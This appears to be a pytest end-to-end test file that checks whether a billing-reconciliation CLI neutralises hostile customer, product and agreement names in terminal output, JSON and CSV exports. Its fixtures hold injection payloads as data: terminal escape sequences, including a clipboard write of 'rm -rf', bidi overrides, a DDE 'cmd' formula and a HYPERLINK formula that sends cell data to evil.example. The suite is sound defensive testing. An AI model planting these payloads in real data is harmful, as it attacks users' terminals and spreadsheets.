"""Names chosen by a customer, a marketplace or a company that means harm: on a terminal, in JSON, in a spreadsheet.

Rules: commands.md#outside-text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest

from tests.end_to_end.running import Cwtui, Ran, Row, environment_of, serve

HARM = {
    "a title and a clipboard": "\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07",
    "a cleared screen": "\x1b[2J\x1b[H\x9b31m",
    "a faked line": "\r\nError: nothing to do\n\x08\x08",
    "a reversed direction": "\u202etxt.exe\u2066\u200f",
    "a link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "markup": "[bold red]x[/] [@click=app.quit]y[/]",
}
FORMULAS = [
    "x\r=1+1",
    '=HYPERLINK("https://evil.example?"&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "-2+3",
]
WORST = "=1+1" + "".join(HARM.values())
LISTINGS = [
    ["tasks", "list"],
    ["tasks", "show", "initial.S0"],
    ["map", "list", "customer"],
    ["map", "list", "product"],
    ["map", "list", "agreement"],
    ["map", "suggest", "customer"],
    ["map", "suggest", "product"],
    ["map", "suggest", "agreement"],
    ["reconcile", "--customer", "C0"],
    ["reconcile", "--all"],
    ["audit"],
    ["check"],
    ["--auto", "--dry-run"],
    ["doctor"],
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cwtui]:
    """A reseller all of whose records bear hostile names: customer 0 is mapped and synchronised, the others wait."""
    with ExitStack() as stack:
        sandbox = serve(stack)
        names = [WORST, *HARM.values(), *FORMULAS]
        rows: list[Row] = []
        for number, name in enumerate(names):
            sandbox.call("add_customer", name=name, id=f"C{number}")
            sandbox.call("add_product", id=f"{name}P{number}", name=name, mpn=name, price="4.50", cost="3.60")
            company = sandbox.call("add_company", name=name, identifier=f"I{number}")
            item = sandbox.call("add_catalog_item", identifier=f"{number}{name}"[:60], description=name, price="5")
            dates = {"bill_start": "2026-01-01", "next_invoice": "2026-12-01"}
            agreement = sandbox.call("add_agreement", company_id=company["id"], name=name, **dates)
            products = [[f"{name}P{number}", 3]]
            sandbox.call("add_subscription", customer_id=f"C{number}", products=products, id=f"S{number}", name=name)
            rows.append({"company": company["id"], "item": item["id"], "agreement": agreement["id"]})
        folder = tmp_path_factory.mktemp("hostile")
        cwtui = Cwtui(folder / "state.json", environment_of(sandbox.announced))
        stack.callback(cwtui.stop)
        _map_some(cwtui, rows, names)
        cwtui.run("--auto", status=3)
        yield cwtui


def _map_some(cwtui: Cwtui, rows: list[Row], names: list[str]) -> None:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(["kind", "marketplace_id", "charge", "connectwise_id"])
    for number, row in enumerate(rows):
        if number % 3 == 0 or names[number] in FORMULAS:
            writer.writerow(["customer", f"C{number}", "", row["company"]])
            writer.writerow(["product", f"{names[number]}P{number}", "", row["item"]])
            writer.writerow(["agreement", f"S{number}", "", row["agreement"]])
    path = cwtui.state.with_name("mappings.csv")
    path.write_text(out.getvalue(), "utf-8", newline="")
    cwtui.run("map", "import", str(path), status=0)


def harmful(text: str) -> list[str]:
    """Characters that a terminal obeys, or that hide or turn what stands beside them."""
    marks = set("\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    return [each for each in text if each in marks or (unicodedata.category(each) == "Cc" and each != "\n")]


def clean(ran: Ran) -> None:
    assert ran.status in {0, 1, 3}, ran.err
    assert harmful(ran.out) == []
    assert harmful(ran.err) == []
    assert not re.search(r"^Error: nothing to do", ran.out + ran.err, re.MULTILINE)


@pytest.mark.parametrize("arguments", LISTINGS, ids=" ".join)
def test_no_name_reaches_the_terminal_as_a_command(arguments: list[str], hostile: Cwtui) -> None:
    clean(hostile.run(*arguments))


def test_the_names_are_in_there_all_the_same(hostile: Cwtui) -> None:
    listed = hostile.run("tasks", "list").out
    assert "␛" in listed
    assert "<U+202E>" in listed
    assert "[bold red]" in listed
    assert WORST in {task["customer"]["name"] for task in hostile.tasks().values()}


@pytest.mark.parametrize("arguments", [["tasks", "list"], ["audit"], ["map", "list", "customer"]], ids=" ".join)
def test_json_is_exact_and_harmless(arguments: list[str], hostile: Cwtui) -> None:
    ran = hostile.run(*arguments, "--json", status=0)
    assert harmful(ran.out) == []
    json.loads(ran.out)


@pytest.mark.parametrize(
    "command", [["tasks", "show"], ["map", "list"], ["tasks", "list", "--status"], ["--profile"]], ids=" ".join
)
def test_what_was_typed_is_repeated_harmlessly(command: list[str], hostile: Cwtui) -> None:
    ran = hostile.run(*command, WORST)
    assert ran.status in {1, 2}
    assert harmful(ran.out + ran.err) == []


@pytest.mark.parametrize(
    "arguments",
    [
        ["audit", "--csv"],
        ["map", "export"],
        ["reconcile", "--all", "--csv"],
        ["reconcile", "--customer", "C0", "--csv"],
    ],
    ids=" ".join,
)
def test_no_cell_of_an_export_is_computed(arguments: list[str], hostile: Cwtui, tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    assert hostile.run(*arguments, str(path)).status in {0, 3}
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))
    assert len(rows) > 1
    assert {len(row) for row in rows} == {len(rows[0])}, "a name broke its row in two"
    computed = [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r\n＝＋－＠") and not _is_number(cell)]
    assert computed == []


def test_an_exported_mapping_is_imported_as_it_was(hostile: Cwtui, tmp_path: Path) -> None:
    first, second = tmp_path / "1.csv", tmp_path / "2.csv"
    hostile.run("map", "export", str(first), status=0)
    hostile.run("map", "import", str(first), status=0)
    hostile.run("map", "export", str(second), status=0)
    assert first.read_bytes() == second.read_bytes()


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell) is not None or cell == ""
